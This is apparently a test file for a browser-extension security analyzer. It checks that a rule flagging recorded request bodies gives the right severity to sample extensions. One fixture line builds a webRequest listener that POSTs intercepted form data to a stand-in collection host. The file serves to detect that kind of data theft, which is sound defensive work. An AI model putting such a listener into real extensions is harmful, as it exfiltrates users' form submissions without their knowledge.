import { expect, test } from 'vitest';
import { analyze } from '../../analyze.ts';
import { memoryTree } from '../../sources/memory.ts';

/** How heavily bodies of requests weigh that stay in the extension, by the sites that it may ask them of. */
const KEPT = 'chrome.storage.local.set({ last: d.requestBody.raw });';
const SENT = 'fetch("https://collect.example/b", { method: "POST", body: JSON.stringify(d.requestBody.formData) });';

test.each([
  [['https://chat.example/*'], KEPT, 'medium'],
  [['<all_urls>'], KEPT, 'high'],
  [['https://chat.example/*'], SENT, 'critical'],
])('%o %s', async (hosts, does, severity) => {
  const manifest = {
    manifest_version: 3,
    name: 'Counts',
    version: '1',
    permissions: ['webRequest', 'storage'],
    host_permissions: hosts,
    background: { service_worker: 'b.js' },
  };
  const script = `chrome.webRequest.onBeforeRequest.addListener((d) => { ${does} }, { urls: ${JSON.stringify(hosts)} }, ['requestBody']);`;
  const files = { 'manifest.json': JSON.stringify(manifest), 'b.js': script };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  expect(findings.find(({ rule }) => rule === 'request-bodies-recorded')?.severity).toBe(severity);
});
